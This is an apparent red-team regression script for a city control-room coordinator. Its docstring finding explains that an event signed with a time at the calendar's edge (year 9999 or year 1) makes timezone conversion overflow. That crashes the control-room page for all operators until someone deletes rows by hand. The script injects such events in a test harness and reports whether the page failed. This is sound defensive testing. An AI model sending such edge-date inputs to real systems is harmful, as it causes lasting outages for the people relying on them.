"""Finding: one signed event dated at the calendar's edge takes the control room down for every
operator of the city, for good.

The page shows each incident's and camera's times in the city's zone
(``coordinator.web.city_time.local``: ``astimezone(ZoneInfo(zone))``). A node may sign any event
time; 9999-12-31T23:30Z in Europe/Berlin (or 0001-01-01T01:00Z in America/New_York) lies past
the calendar and ``astimezone`` raises ``OverflowError``: ``GET /control-room`` answers 500 for
every filter that includes the incident, and its camera's "last alert" column breaks every
filter at all. The far-future incident sorts first and is never purged (last seen never before
the retention cutoff), so the outage lasts until someone deletes rows by hand.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/incident_page_crash.py
Exit 1 = the page went down, 0 = it still rendered.
"""

from __future__ import annotations

import sys
from datetime import UTC, datetime

from coordinator.errors import EventsRejected
from redteam.incident_city import city
from tests.support.incident_events import event, send

CASES = (("Europe/Berlin", datetime(9999, 12, 31, 23, 30, tzinfo=UTC)),
         ("America/New_York", datetime(1, 1, 1, 1, 0, tzinfo=UTC)))


def main() -> int:
    down = []
    for zone, moment in CASES:
        with city(time_zone=zone) as w:
            op = w.as_("operator")
            before = w.client.get("/control-room", headers=op).status_code
            try:
                send(w, [event(moment, rule="edge")])
            except EventsRejected as exc:  # the intake refuses times off the clock now
                print(f"{zone}: batch refused: {exc}")
            after = w.client.get("/control-room", headers=op).status_code
            other = w.client.get("/control-room?site_id=site-b", headers=op).status_code
            print(f"{zone}: event at {moment.isoformat()}: /control-room {before} -> {after}; "
                  f"filtered to site-b -> {other}")
            if after >= 500:
                down.append(zone)
    print("ATTACK WORKED: control room down in" if down else "held", down or "")
    return 1 if down else 0


if __name__ == "__main__":
    sys.exit(main())
